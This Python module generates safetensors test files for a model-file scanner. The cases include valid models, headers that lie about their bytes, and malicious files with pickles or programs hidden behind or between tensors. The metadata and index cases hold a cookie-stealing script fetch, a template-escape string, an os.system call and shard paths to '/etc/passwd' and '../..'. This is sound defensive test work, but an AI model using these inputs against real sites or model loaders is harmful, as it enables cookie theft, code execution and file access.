"""Safetensors: every element type and layout in use, sharded models; and headers that lie about the bytes."""

import base64
import json
import struct

import numpy
import safetensors.numpy

from cases import noise
from native import elf
from pickle_code import payload

WIDTH = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2, "F8_E4M3": 1, "F8_E5M2": 1, "I64": 8, "I32": 4, "I16": 2, "I8": 1, "U8": 1, "BOOL": 1, "U16": 2, "U32": 4, "U64": 8, "C64": 8, "F8_E8M0": 1}


def make(cases):
    family = cases.family("safetensors")
    benign(family)
    sharded(family)
    lies(family)
    contents(family)


def written(header, body=b"", length=None, pad=True):
    """A file with a header of our own, as an object or as bytes."""
    raw = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    if pad:
        raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + body


def laid_out(rows, metadata=None):
    """Header and bytes for rows of name, type, shape."""
    header, body = ({"__metadata__": metadata} if metadata else {}), b""
    for name, kind, shape in rows:
        size = WIDTH[kind] * int(numpy.prod(shape, dtype=int))
        header[name] = {"dtype": kind, "shape": list(shape), "data_offsets": [len(body), len(body) + size]}
        body += noise(size, name) if kind != "BOOL" else bytes(size)
    return header, body


def decoder(layers, kind="BF16", wide=16):
    rows = [("model.embed_tokens.weight", kind, (32, wide))]
    for layer in layers:
        at = f"model.layers.{layer}."
        rows += [(f"{at}self_attn.{part}_proj.weight", kind, (wide, wide)) for part in "qkvo"]
        rows += [(f"{at}mlp.{part}_proj.weight", kind, (wide, wide)) for part in ("gate", "up", "down")]
        rows += [(f"{at}input_layernorm.weight", kind, (wide,))]
    return rows


def benign(family):
    random = numpy.random.default_rng(5)
    plain = {"weight": random.normal(size=(8, 4)).astype("f4"), "bias": numpy.zeros(8, "f4")}
    family.benign("numpy", "model.safetensors", safetensors.numpy.save(plain), "two tensors by the library")
    family.benign("metadata", "model.safetensors", safetensors.numpy.save(plain, {"format": "pt"}), "the metadata that transformers writes")
    family.benign("empty", "empty.safetensors", safetensors.numpy.save({}), "no tensor at all")
    family.benign("empty-tensor", "model.safetensors", safetensors.numpy.save({"a": numpy.zeros((0, 4), "f4"), "b": numpy.array(1, "f4")}), "a tensor without elements and one without dimensions")
    family.benign("many", "model.safetensors", safetensors.numpy.save({f"layers.{n}.weight": numpy.zeros((2, 2), "f2") for n in range(800)}), "eight hundred tensors")
    family.benign("lora", "adapter_model.safetensors", safetensors.numpy.save({f"base_model.model.layers.{n}.lora_{half}.weight": random.normal(size=(2, 8)).astype("f4") for n in range(4) for half in "AB"}, {"format": "pt"}), "a LoRA adapter")
    training = {"ss_base_model_version": "sd_v1", "ss_network_dim": "32", "ss_tag_frequency": json.dumps({"set": {"1girl": 12, "<script>": 1}}), "ss_training_comment": "I ran: python train.py --lr 1e-4", "modelspec.title": "An ink style", "sshs_model_hash": "0" * 64}
    family.benign("lora-metadata", "ink.safetensors", safetensors.numpy.save({"lora_te_text_model.alpha": numpy.zeros(2, "f4")}, training), "the metadata that trainers of image LoRAs write, JSON in it")
    family.benign("diffusers", "diffusion_pytorch_model.safetensors", written(*laid_out([(f"down_blocks.{n}.resnets.0.conv1.weight", "F16", (4, 4, 3, 3)) for n in range(3)], {"format": "pt"})), "a diffusion model's weights")
    for kind in WIDTH:
        family.benign(f"dtype-{kind.lower().replace('_', '-')}", "model.safetensors", written(*laid_out([("x", kind, (4, 6)), ("y", kind, (3,))])), f"tensors of {kind}")
    family.benign("decoder", "model.safetensors", written(*laid_out(decoder(range(2)), {"format": "pt"})), "a small decoder in bfloat16")
    family.benign("unordered", "model.safetensors", unordered(), "tensors in the header in another order than in the file")
    family.benign("names", "model.safetensors", written(*laid_out([("größe.weight", "F32", (2,)), ("a/b\"c\\d", "F32", (2,)), ("\u96ea", "U8", (3,))])), "odd names, correctly escaped")
    family.benign("like-pickle", "model.safetensors", written({"w": {"dtype": "U8", "shape": [len(payload()) * 4], "data_offsets": [0, len(payload()) * 4]}}, payload() * 4), "bytes of a tensor that look like pickles: nothing reads them so")
    family.benign("like-elf", "model.safetensors", written({"w": {"dtype": "U8", "shape": [len(elf())], "data_offsets": [0, len(elf())]}}, elf()), "bytes of a tensor that look like a program")
    family.benign("no-padding", "model.safetensors", written(*laid_out([("x", "F32", (2,))]), pad=False), "a header which is not padded, as other writers leave it")


def unordered():
    header, body = laid_out([("a", "F32", (2,)), ("b", "F32", (3,)), ("c", "I64", (1,))])
    return written(dict(reversed(header.items())), body)


def sharded(family):
    names = {}
    for part, layers in ((1, range(2)), (2, range(2, 4))):
        file = f"model-{part:05}-of-00002.safetensors"
        rows = decoder(layers) if part == 1 else decoder(layers)[1:]
        names |= {name: file for name, _, _ in rows}
        family.benign("sharded", file, written(*laid_out(rows, {"format": "pt"})), "one of two shards")
    index = json.dumps({"metadata": {"total_size": 20000}, "weight_map": names}, indent=2)
    family.benign("sharded", "model.safetensors.index.json", index, "the index of the shards")
    for case, file in (("dots", "../../other/model.safetensors"), ("absolute", "/etc/passwd"), ("address", "http://127.0.0.1/x.safetensors"), ("pickle", "../pytorch_model.bin")):
        text = json.dumps({"metadata": {}, "weight_map": {"a": file}})
        family.malicious(f"index-{case}", "model.safetensors.index.json", text, "an index that points outside the repository")


def lies(family):
    one = lambda **more: {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16], **more}}
    table = [
        ("gap", {"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, "b": {"dtype": "U8", "shape": [4], "data_offsets": [64, 68]}}, bytes(68), "a gap between two tensors"),
        ("gap-first", {"a": {"dtype": "U8", "shape": [4], "data_offsets": [64, 68]}}, bytes(68), "a gap before the first tensor"),
        ("overlap", {"a": {"dtype": "U8", "shape": [8], "data_offsets": [0, 8]}, "b": {"dtype": "U8", "shape": [8], "data_offsets": [4, 12]}}, bytes(12), "tensors that overlap"),
        ("tail", one(), bytes(200), "bytes behind the last tensor"),
        ("short", one(), bytes(8), "fewer bytes than the tensors need"),
        ("size-lie", one(shape=[400]), bytes(16), "a shape that does not fit its bytes"),
        ("overflow", one(shape=[1 << 62, 4]), bytes(16), "a shape whose product overflows"),
        ("negative", one(shape=[-4]), bytes(16), "a negative side"),
        ("reversed", one(data_offsets=[16, 0]), bytes(16), "an end before its start"),
        ("huge-offset", one(data_offsets=[0, 1 << 63]), bytes(16), "an end far outside"),
        ("dtype", one(dtype="F33"), bytes(16), "a type that does not exist"),
        ("missing-key", {"w": {"dtype": "F32", "shape": [4]}}, bytes(16), "no offsets"),
        ("extra-key", one(loader="os.system"), bytes(16), "a key that the format does not have"),
        ("metadata-number", {"__metadata__": {"a": 1}, **one()}, bytes(16), "metadata that is not text"),
        ("metadata-nested", {"__metadata__": {"a": {"b": "c"}}, **one()}, bytes(16), "metadata in levels"),
        ("float-shape", one(shape=[4.0]), bytes(16), "a side with a decimal point"),
        ("text-offset", one(data_offsets=["0", "16"]), bytes(16), "offsets as text"),
        ("array", [1, 2], b"", "a header that is a list"),
    ]
    for case, header, body, note in table:
        family.suspicious(f"header-{case}", "model.safetensors", written(header, body), note)
    raw = b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    bytes_table = [
        ("duplicate", written(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"U8","shape":[16],"data_offsets":[0,16]}}', bytes(16)), "one name twice"),
        ("duplicate-escaped", written(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"\\u0077":{"dtype":"U8","shape":[16],"data_offsets":[0,16]}}', bytes(16)), "one name twice, once escaped"),
        ("duplicate-offsets", written(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16],"data_offsets":[0,8]}}', bytes(16)), "offsets twice"),
        ("mark", written(b"\xef\xbb\xbf" + raw, bytes(16)), "a byte order mark before the header"),
        ("leading-blank", written(b"  " + raw, bytes(16)), "blanks before the header"),
        ("trailing-nul", written(raw + bytes(9), bytes(16), pad=False), "NULs behind the header"),
        ("trailing-json", written(raw + b'{"x":1}', bytes(16)), "a second object in the header"),
        ("comment", written(b"/* x */" + raw, bytes(16)), "a comment in the header"),
        ("nan", written(b'{"w":NaN}', b""), "NaN in the header"),
        ("length-max", written(raw, bytes(16), length=(1 << 64) - 1), "a length of sixty-four ones"),
        ("length-long", written(raw, bytes(16), length=99999999), "a length beyond the file"),
        ("length-zero", written(b"", bytes(16), length=0), "a length of zero"),
        ("length-short", written(raw, bytes(16), length=10), "a length that cuts the header"),
        ("utf8", written(b'{"\xff":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', bytes(16)), "a name that is not UTF-8"),
        ("deep", written(b'{"__metadata__":' + b"[" * 100000 + b"]" * 100000 + b"}", b""), "a hundred thousand brackets"),
        ("surrogate", written(b'{"\\ud800":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', bytes(16)), "half a pair of surrogates as a name"),
        ("length-limit", written(raw, bytes(16), length=100_000_001), "a length just over the format's limit"),
        ("big", written(b'{"__metadata__":{"a":"' + b"x" * (3 << 20) + b'"}}', b""), "three megabytes of metadata"),
    ]
    for case, data, note in bytes_table:
        family.suspicious(f"bytes-{case}", "model.safetensors", data, note)


def contents(family):
    one = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    gap = {"a": {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]}, "b": {"dtype": "U8", "shape": [4], "data_offsets": [4 + 400, 8 + 400]}}
    family.malicious("tail-pickle", "model.safetensors", written(one, bytes(16) + payload()), "a pickle behind the last tensor")
    family.malicious("tail-elf", "model.safetensors", written(one, bytes(16) + elf()), "a program behind the last tensor")
    family.malicious("gap-elf", "model.safetensors", written(gap, bytes(4) + elf().ljust(400, b"\0") + bytes(4)), "a program in a gap")
    family.malicious("gap-pickle", "model.safetensors", written(gap, bytes(4) + payload(4).ljust(400, b"\0") + bytes(4)), "a pickle in a gap")
    family.malicious("empty-pickle", "model.safetensors", written({}, payload()), "no tensor, and a pickle for a body")
    family.suspicious("metadata-script", "model.safetensors", written({"__metadata__": {"format": "pt", "description": "<script>fetch('http://127.0.0.1/'+document.cookie)</script>"}, **one}, bytes(16)), "a script in the metadata, which pages show")
    family.suspicious("metadata-template", "model.safetensors", written({"__metadata__": {"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, **one}, bytes(16)), "a template that breaks out, in the metadata")
    family.suspicious("metadata-code", "model.safetensors", written({"__metadata__": {"loader": "__import__('os').system('echo weighbridge')"}, **one}, bytes(16)), "code in the metadata")
    family.suspicious("metadata-pickle", "model.safetensors", written({"__metadata__": {"state": base64.b64encode(payload()).decode()}, **one}, bytes(16)), "a pickle as base64 in the metadata")
